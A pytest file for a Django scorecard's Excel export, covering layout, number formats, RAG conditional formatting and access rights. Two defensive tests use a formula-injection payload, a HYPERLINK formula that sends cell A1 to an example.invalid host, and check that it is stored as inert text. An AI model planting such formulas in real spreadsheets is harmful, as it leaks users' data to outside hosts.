"""The scorecard as an Excel workbook: same layout as the page, figures as real numbers
that print as the scorecard printed them, RAG as conditional formatting, and text that
Excel can never run as a formula."""

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from improvement.lib.history import save_tracked
from improvement.scorecard.models import Indicator
from improvement.scorecard.workbook import number_for_text, rag_formulas, text_for_number

from .conftest import row_of


def sheet(data):
    return load_workbook(io.BytesIO(data))["Scorecard"]


def test_the_export_has_the_scorecard_layout(exported):
    ws = sheet(exported)
    headings = [c.value for c in ws[4]]
    assert headings[:2] == ["ID", "Indicator"]
    assert headings[2] == dt.datetime(2024, 10, 1)
    assert headings[13] == dt.datetime(2025, 9, 1)
    assert headings[14:18] == ["Target", "SN av", "Direction of travel", "RAG (latest month)"]
    assert ws["B5"].value.startswith("Early Help and Front Door Responses - ")
    assert [ws["A6"].value, ws["N6"].value, ws["O6"].value] == ["1", 0.947, "90.0%"]
    assert ws["Q6"].value == "▼ Declined"
    assert ws["R6"].value == "On target"


@pytest.mark.parametrize(
    ("printed", "number", "fmt"),
    [
        ("84.0%", 0.84, "0.0%"),
        ("100%", 1, "0%"),
        ("97.80%", 0.978, "0.00%"),
        ("1083", 1083, "0"),
        ("11.26", 11.26, "0.00"),
        ("100.4r", 100.4, '0.0"r"'),
        ("67% (4)", 0.67, '0%" (4)"'),
        ("41%(5)", 0.41, '0%"(5)"'),
    ],
)
def test_each_printed_form_becomes_a_number_that_prints_the_same(printed, number, fmt):
    assert number_for_text(printed) == (number, fmt)
    assert text_for_number(number, fmt, None) == printed


@pytest.mark.parametrize("printed", ["NYA", "", "about 5"])
def test_words_stay_words(printed):
    assert number_for_text(printed) is None


def test_rag_conditional_formatting_mirrors_the_rules(plan, exported):
    ws = sheet(exported)
    rules = {str(cf.sqref): [r.formula[0] for r in cf.rules] for cf in ws.conditional_formatting}
    assert rules["C6:N6"] == [  # 1: at least 90.0%
        "AND(ISNUMBER(C6),C6>=0.9)",
        "AND(ISNUMBER(C6),C6<0.9,C6>=0.765)",
        "AND(ISNUMBER(C6),C6<0.765)",
    ]
    assert rules["C7:N7"][0] == "AND(ISNUMBER(C7),C7<=0.08)"  # 2: below 8%
    cin = row_of(ws, "15")
    assert rules[f"C{cin}:N{cin}"][0] == f"AND(ISNUMBER(C{cin}),OR(AND(C{cin}>=105,C{cin}<=135)))"
    assert f"C{row_of(ws, '3')}:N{row_of(ws, '3')}" not in rules  # Monitor: no colours
    fills = [cf.rules[0].dxf.fill.fgColor.rgb for cf in ws.conditional_formatting]
    assert set(fills) == {"00CCE2D8"}


def test_a_higher_is_better_range_treats_above_the_range_as_on_target(plan):
    reviews = Indicator.objects.get(plan=plan, code="48")  # 90-95%
    rules = rag_formulas(reviews, "C5")
    assert rules == {
        "on_target": "AND(ISNUMBER(C5),OR(AND(C5>=0.9,C5<=0.95),C5>0.95))",
        "within_15": "AND(ISNUMBER(C5),OR(AND(C5<0.9,C5>=0.765)))",
        "beyond_15": "AND(ISNUMBER(C5),OR(C5<0.765))",
    }


def test_text_that_looks_like_a_formula_is_stored_as_text(plan, manager):
    from improvement.scorecard.workbook import workbook_bytes

    hostile = Indicator.objects.get(plan=plan, code="3")
    hostile.title = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    save_tracked(hostile, user=manager, reason="test")
    data = workbook_bytes(plan)
    cell = sheet(data).cell(8, 2)
    assert cell.value == hostile.title
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


def test_a_control_character_before_an_equals_sign_is_dropped_and_the_rest_kept_as_text(
    plan, manager
):
    from improvement.scorecard.workbook import workbook_bytes

    hostile = Indicator.objects.get(plan=plan, code="3")
    hostile.title = '\x01=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    save_tracked(hostile, user=manager, reason="test")
    data = workbook_bytes(plan)
    cell = sheet(data).cell(8, 2)
    assert cell.value == '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


def test_the_export_downloads_for_the_chosen_months(client, owner):
    client.force_login(owner)
    url = reverse("scorecard:export", args=["childrens-services"])
    response = client.get(url, {"months": 3, "end": "2025-06"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="childrens-services-scorecard-2025-06.xlsx"' in response["Content-Disposition"]
    ws = sheet(response.content)
    assert [c.value for c in ws[4]][2:5] == [
        dt.datetime(2025, 4, 1),
        dt.datetime(2025, 5, 1),
        dt.datetime(2025, 6, 1),
    ]


def test_the_template_needs_the_manage_right(client, owner, manager):
    url = reverse("scorecard:template", args=["childrens-services"])
    client.force_login(owner)
    assert client.get(url).status_code == 403
    client.force_login(manager)
    response = client.get(url)
    assert response.status_code == 200
    headings = [c.value for c in sheet(response.content)[4]]
    assert headings[14] == dt.datetime(2025, 10, 1)  # the empty month to fill in
    assert headings[15] == "Target"


def test_numbers_read_back_at_the_precision_they_show():
    assert text_for_number(0.9469999999, "0.0%", "percentage") == "94.7%"
    assert text_for_number(Decimal("12"), "General", "number") == "12"
    assert text_for_number(12.5, "General", "rate_per_10000") == "12.5r"
    assert text_for_number(0.5, "0%", "percentage") == "50%"
